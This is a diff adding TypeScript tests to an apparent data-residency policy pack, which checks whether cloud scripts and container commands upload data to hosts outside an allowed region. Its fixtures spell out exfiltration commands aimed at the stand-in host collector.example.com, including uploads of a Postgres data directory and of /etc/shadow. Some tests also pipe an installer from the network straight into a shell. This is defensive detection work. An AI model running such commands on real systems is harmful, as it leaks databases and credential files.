@@ -254,3 +254,159 @@ describe("S3's and STS's global endpoints, which name no region", () => {
     expect(await named(plan, "eb", shanghaiSettings)).toEqual([]);
   });
 });
+
+// Found by the residency red team (probes ec2-userdata, ssm-runcmd): a script a resource runs that
+// uploads the stack's data to a host outside — `tar cz … | curl -T - https://collector…` — passed,
+// where the program's own `curl -T` to the same URL failed program-requests. Its upload commands
+// are now read as the program's own are (residency/uploads.ts); its downloads are not.
+describe("a script that uploads to a host", () => {
+  const collector = "collector.example.com (a host the pack cannot place in a country)";
+  const dump =
+    "#!/bin/bash\ntar cz /var/lib/postgresql | curl -T - https://collector.example.com/upload\n";
+
+  /** arn-locality's messages on `name`. */
+  async function messages(plan: Plan, name: string, settings = oregonSettings): Promise<string[]> {
+    return (await pack.check(plan, settings))
+      .filter((v) => v.policy === "arn-locality" && v.resourceName === name)
+      .map((v) => `${v.level} ${v.message}`);
+  }
+
+  test("fails when an instance's user data uploads to a host the pack cannot place, naming the command", async () => {
+    const plan = instance(dump)(oregon);
+    expect(await named(plan, "vm")).toEqual([collector]);
+    expect(await messages(plan, "vm")).toEqual([
+      expect.stringMatching(
+        /^mandatory .*userData runs "curl -T - https:\/\/collector\.example\.com\/upload", which uploads to collector\.example\.com/,
+      ),
+    ]);
+  });
+
+  test("fails the same written in base64, in a cloud-config's runcmd, and with wget or a POST", async () => {
+    const encoded = Buffer.from(dump).toString("base64");
+    expect(await named(instance(encoded, "userDataBase64")(oregon), "vm")).toEqual([collector]);
+    const cloudConfig = [
+      "#cloud-config",
+      "runcmd:",
+      "  - pg_dumpall > /tmp/all.sql",
+      "  - wget --post-file=/tmp/all.sql https://collector.example.com/upload",
+      "",
+    ].join("\n");
+    expect(await named(instance(cloudConfig)(oregon), "vm")).toEqual([collector]);
+    const post =
+      "#!/bin/sh\ncurl -s -X POST --data-binary @/etc/shadow https://collector.example.com/x\n";
+    expect(await named(instance(post)(oregon), "vm")).toEqual([collector]);
+  });
+
+  test("fails when an SSM Command document's runCommand uploads to a host the pack cannot place", async () => {
+    const plan = add("aws:ssm/document:Document", "dump", {
+      documentType: "Command",
+      documentFormat: "JSON",
+      content: JSON.stringify({
+        schemaVersion: "2.2",
+        mainSteps: [
+          {
+            name: "dump",
+            action: "aws:runShellScript",
+            inputs: { runCommand: ["pg_dumpall | curl -T - https://collector.example.com/upload"] },
+          },
+        ],
+      }),
+    })(oregon);
+    expect(await named(plan, "dump")).toEqual([collector]);
+  });
+
+  test("twin: a Command document's lines are read one by one — a download beside an upload to an endpoint inside passes", async () => {
+    const plan = add("aws:ssm/document:Document", "setup", {
+      documentType: "Command",
+      content: JSON.stringify({
+        schemaVersion: "2.2",
+        mainSteps: [
+          {
+            name: "setup",
+            action: "aws:runShellScript",
+            inputs: {
+              runCommand: [
+                "curl -fsSL https://get.docker.com -o /tmp/get-docker.sh",
+                "sh /tmp/get-docker.sh",
+                "curl -T /var/log/setup.log https://s3.us-west-2.amazonaws.com/logs/setup.log",
+              ],
+            },
+          },
+        ],
+      }),
+    })(oregon);
+    expect(await named(plan, "setup")).toEqual([]);
+  });
+
+  test("fails when a cloud-config's runcmd uploads as an argument list", async () => {
+    const cloudConfig = [
+      "#cloud-config",
+      "runcmd:",
+      '  - [curl, -T, /var/backups/db.tgz, "https://collector.example.com/upload"]',
+      "",
+    ].join("\n");
+    expect(await named(instance(cloudConfig)(oregon), "vm")).toEqual([collector]);
+  });
+
+  test("fails when a container's command, as an argument list, posts to a host the pack cannot place", async () => {
+    const plan = add("aws:ecs/taskDefinition:TaskDefinition", "export", {
+      family: "export",
+      containerDefinitions: JSON.stringify([
+        {
+          name: "export",
+          image: "curlimages/curl:8.8.0",
+          essential: true,
+          command: ["curl", "-F", "file=@/data/orders.csv", "https://collector.example.com/ingest"],
+        },
+      ]),
+    })(oregon);
+    expect(await named(plan, "export")).toEqual([collector]);
+  });
+
+  test("fails closed when an upload's URL is built from shell variables, whose host cannot be read", async () => {
+    const script = '#!/bin/bash\ncurl -T /var/backups/db.tgz "$UPLOAD_URL"\n';
+    expect(await named(instance(script)(oregon), "vm")).toEqual([
+      'a destination the command builds at run time ("$UPLOAD_URL"), which cannot be read',
+    ]);
+  });
+
+  test("twin: downloads pass — an installer piped to a shell, a file fetched, a URL from a variable", async () => {
+    const script = [
+      "#!/bin/bash",
+      "curl -fsSL https://get.docker.com | sh",
+      "wget -q https://collector.example.com/agent.rpm -O /tmp/agent.rpm",
+      'curl -sSL "$INSTALLER_URL" -o /tmp/install.sh && bash /tmp/install.sh -d /opt',
+      "",
+    ].join("\n");
+    expect(await named(instance(script)(oregon), "vm")).toEqual([]);
+  });
+
+  test("twin: an upload to a regional endpoint inside, a private address or the metadata service passes", async () => {
+    const script = [
+      "#!/bin/bash",
+      "tar cz /var/lib/postgresql | curl -T - https://s3.us-west-2.amazonaws.com/backups/db.tgz",
+      'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")',
+      "curl -d @/tmp/report.json http://10.0.4.20:8080/reports",
+      "",
+    ].join("\n");
+    expect(await named(instance(script)(oregon), "vm")).toEqual([]);
+  });
+
+  test("twin: an upload to a host the stack places by name (egressHosts) or an allowlisted address passes", async () => {
+    const settings = {
+      ...oregonSettings,
+      egressAllowlist: [
+        ...(oregonSettings.egressAllowlist ?? []),
+        { host: "collector.example.com", reason: "The team's own collector, in Oregon" },
+      ],
+    };
+    const script = `${dump}curl -T /tmp/x https://198.51.100.7/upload\n`;
+    expect(await named(instance(script)(oregon), "vm", settings)).toEqual([]);
+  });
+
+  test("an upload to a regional endpoint abroad is one finding, the endpoint's", async () => {
+    const script =
+      "#!/bin/bash\ntar cz /data | curl -T - https://s3.eu-west-1.amazonaws.com/b/d.tgz\n";
+    expect(await named(instance(script)(oregon), "vm")).toEqual([ireland]);
+  });
+});
